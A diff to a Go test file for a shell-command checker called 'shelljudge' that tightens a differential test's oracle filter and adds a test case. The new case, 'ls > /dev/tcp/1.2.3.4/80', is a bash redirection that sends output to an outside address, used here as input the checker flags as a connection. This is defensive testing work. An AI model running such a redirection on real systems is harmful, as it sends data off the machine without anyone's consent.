@@ -3,6 +3,7 @@ package shelljudge
 import (
 	"os"
 	"regexp"
+	"slices"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -27,11 +28,12 @@ func TestControlOldReader(t *testing.T) {
 		t.Skip("SKIPPED: this is for the reader of commit b0855d1; run: make shell-differential-controls")
 	}
 	found := map[string]int{}
+	strict := []string{"a program that is not listed", "the rule on names", "the rule on paths", "a path that is not listed"}
 	report := campaign(t, Campaign{
 		Lines: 20000, Seed: uint64(number(t, "CORTEX_SEED", 1)),
 		Wanted: func(c Candidate, f Failure) bool {
 			_, is := causes[c.Family]
-			return is && found[c.Family] == 0 && f.Oracle != "the rule on the number of operands"
+			return is && found[c.Family] == 0 && slices.Contains(strict, f.Oracle)
 		},
 		Failed: func(f Finding) {
 			if found[f.Family] == 0 && causes[f.Family].MatchString(f.Line) {
@@ -78,6 +80,7 @@ func TestControlBrokenReadings(t *testing.T) {
 		{"cat a.txt", func(r *Reading) { r.Paths = nil }, "a path that is not listed", 5, ""},
 		{"ls > out", func(r *Reading) { r.Paths = []any{"/work/other"} }, "a path that is not listed", 5, ""},
 		{"cd sub", func(r *Reading) { r.Commands = nil }, "a folder that is entered", 5, ""},
+		{"ls > /dev/tcp/1.2.3.4/80", func(r *Reading) { r.Paths = nil }, "a connection", 1, "only bash knows that name"},
 		{"kill -9 4000000", func(r *Reading) { r.Commands = nil }, "a signal", 5, ""},
 	} {
 		t.Run(tt.line+" "+tt.want+" "+tt.program, func(t *testing.T) {
